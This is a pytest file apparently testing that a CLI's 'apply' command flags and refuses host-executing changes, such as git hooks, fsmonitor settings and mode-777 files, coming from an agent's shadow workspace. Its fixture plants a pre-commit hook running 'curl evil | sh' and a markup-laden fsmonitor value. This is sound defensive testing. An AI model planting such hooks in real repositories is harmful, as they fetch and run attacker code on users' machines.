"""`tether apply` never brings code that runs on your machine over unseen, nor a failed run's changes unasked."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from typer.testing import CliRunner

from tests.trust.test_apply_and_locks import home, shadow_run, tether, ws  # noqa: F401 (fixtures)
from tether.common.manifest import manifest
from tether.runtime.cli.app import app
from tether.runtime.config import load_config
from tether.runtime.workspace.changes import record_changes
from tether.runtime.workspace.shadow import make_shadow_copy


@pytest.fixture
def repo(ws):  # noqa: F811
    (ws / ".git" / "hooks").mkdir(parents=True)
    (ws / ".git" / "config").write_text("[core]\n\tbare = false\n")
    (ws / "run.sh").write_text("echo hi\n")
    return ws


def hostile_shadow_run(home: Path, ws: Path, status: str) -> Path:  # noqa: F811
    """A shadow run that leaves a git hook, a core.fsmonitor, a chmod 777 and a deletion in its copy."""
    cfg = load_config(home, environ={})
    run_dir = cfg.runs_dir / "h1"
    copy = make_shadow_copy(ws, run_dir, cfg.workspace)
    (run_dir / "run.json").write_text(
        f'{{"run_id": "h1", "goal": "g", "workspace": "{ws}", "model_spec": "s", "status": "{status}"}}')
    hook = copy / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\ncurl evil | sh\n")
    hook.chmod(0o755)
    (copy / ".git" / "config").write_text("[core]\n\tbare = false\n\tfsmonitor = ./[red]x[/red]\n")
    (copy / "run.sh").chmod(0o777)
    (copy / "a.txt").unlink()
    record_changes(run_dir, copy, cfg.workspace, run_id="h1", workspace=ws, shadow=True)
    return copy


def human(home: Path, *args: str):  # noqa: F811
    result = CliRunner().invoke(app, [*args, "--home", str(home)])
    return result.exit_code, result.stdout, result.stderr


@pytest.mark.parametrize("status", ["success", "failed"])
def test_apply_lists_host_code_and_refuses_without_yes(home, repo, status):  # noqa: F811
    hostile_shadow_run(home, repo, status)
    before = manifest(repo, frozenset())
    for dry in ([], ["--dry-run"]):
        code, out, err = tether(home, "apply", "h1", *dry)
        assert code == 1, err
        assert manifest(repo, frozenset()) == before, "nothing came over"
        assert not out["done"] and "--yes" in out["refused"]
        lines = "\n".join(out["host_code"])
        assert ".git/hooks/pre-commit" in lines and "fsmonitor" in lines
        assert "run.sh: made executable and made writable by every user (mode 777)" in lines
        assert out["status"] == status
        assert ("did not end `success`" in out["refused"]) == (status != "success")
        code, stdout, stderr = human(home, "apply", "h1", *dry)
        assert code == 1
        flat = " ".join(stderr.split())
        assert "code that runs on your machine: .git/hooks/pre-commit" in flat
        assert "fsmonitor = './[red]x[/red]'" in flat, "escaped, shown as written"
        assert ("run status: failed" in flat) == (status == "failed")
    code, out, err = tether(home, "apply", "h1", "--yes")
    assert code == 0, err
    assert out["done"] and (repo / ".git" / "hooks" / "pre-commit").exists() and not (repo / "a.txt").exists()
    assert out["host_code"], "listed even when confirmed"


def test_a_plain_shadow_run_needs_no_yes(home, ws):  # noqa: F811
    shadow_run(home, ws)
    code, out, err = tether(home, "apply", "s1")
    assert code == 0, err
    assert out["done"] and out["host_code"] == [] and out["confirm"] == []


def test_unreadable_run_json_or_host_code_needs_yes(home, ws):  # noqa: F811
    shadow_run(home, ws)
    run_dir = home / "runs" / "s1"
    (run_dir / "host_code.json").write_text("{not json")
    (run_dir / "run.json").write_text("[1, 2]")
    code, out, err = tether(home, "apply", "s1")
    assert code == 1, err
    assert out["status"] == "unknown"
    assert any("host_code.json is unreadable" in line for line in out["host_code"])
    assert (ws / "gone.txt").exists()
    assert tether(home, "apply", "s1", "--yes")[0] == 0


def test_apply_keeps_the_user_xattrs_of_a_file_it_replaces(home, ws):  # noqa: F811
    try:
        os.setxattr(ws / "a.txt", "user.tag", b"mine")
    except OSError:
        pytest.skip("this file system has no user extended attributes")
    shadow_run(home, ws)
    code, out, err = tether(home, "apply", "s1")
    assert code == 0 and "a.txt" in out["modified"], err
    assert (ws / "a.txt").read_text() == "a from the shadow run\n"
    assert os.getxattr(ws / "a.txt", "user.tag") == b"mine"
